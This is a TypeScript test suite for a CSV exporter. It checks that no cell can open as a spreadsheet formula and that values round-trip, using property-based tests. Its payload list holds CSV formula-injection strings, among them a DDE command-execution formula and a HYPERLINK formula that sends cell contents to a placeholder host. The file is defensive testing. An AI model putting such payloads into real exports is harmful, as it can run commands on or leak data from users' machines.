/** CSV that no spreadsheet runs. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csv } from '../../src/domain/csv.ts';

/** A reader of its own: RFC 4180 with any separator, quotes only at the start of a cell. */
function read(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; at < text.length; at += 1) {
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') {
          cell += '"';
          at += 1;
        } else break;
      }
      at += 1;
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n') cell += text[at++];
    row.push(cell);
    if (text[at] === separator) at += 1;
    else {
      if (text[at] === '\r') at += 1;
      if (text[at] === '\n') at += 1;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const SIGN = '=+\\-@＝＋－＠';
const isFormula = (cell: string) => new RegExp(`^\\s*[${SIGN}]`).test(cell) || /^[\t\r\n]/.test(cell);
/** Takes the marks off that were put before formulas, at the start and behind inner separators. */
const unmarked = (cell: string) =>
  cell
    .replace(/^'('*[\t\r\n])/, '$1')
    .replace(new RegExp(`(^|[;\\t\\r\\n])([^\\S\\t\\r\\n]*)'('*[${SIGN}])`, 'g'), '$1$2$3');

const HEADS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', "=cmd|'/C calc'!A0"];
const PAYLOADS = [
  ...HEADS,
  ...HEADS.map((head) => `  ${head}`),
  ...HEADS.map((head) => `"${head}"`),
  ...HEADS.map((head) => `a;${head}`),
  "'=1",
  "''=1",
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  'a,b;=1+1;c',
  'line\r\n=1+1',
  'ordinary name.pdf',
];

describe('T94', () => {
  it(`none of ${PAYLOADS.length} payloads starts a cell as a formula, and each is read back as it was`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
    const rows = read(csv(PAYLOADS.map((payload, index) => [index, payload, null])));
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const [index, [number, cell = '', empty]] of rows.entries()) {
      expect([number, empty]).toEqual([String(index), '']);
      expect(isFormula(cell), cell).toBe(false);
      expect(unmarked(cell)).toBe(PAYLOADS[index]);
    }
  });

  it('nor where the spreadsheet splits at semicolons', () => {
    for (const payload of PAYLOADS) {
      for (const row of read(csv([['x', payload]]), ';'))
        for (const cell of row) expect(cell, payload).not.toMatch(new RegExp(`^\\s*[${SIGN}]`));
    }
  });

  it('holds for any text', () => {
    const piece = fc.constantFrom(...'=+-@;,"\'\t\r\n ＝aé'.split(''));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = pieces.join('');
        const [row] = read(csv([['id', text, 'end']]));
        expect(row).toHaveLength(3);
        expect(isFormula(row?.[1] ?? '')).toBe(false);
        expect(unmarked(row?.[1] ?? '')).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });
});

it('numbers stay numbers, negative ones too, and unknown is empty', () => {
  expect(
    csv([
      ['name', 'cost'],
      ['a', -0.5],
      ['b', null],
      ['c', 3],
    ]),
  ).toBe('name,cost\r\na,-0.5\r\nb,\r\nc,3\r\n');
});
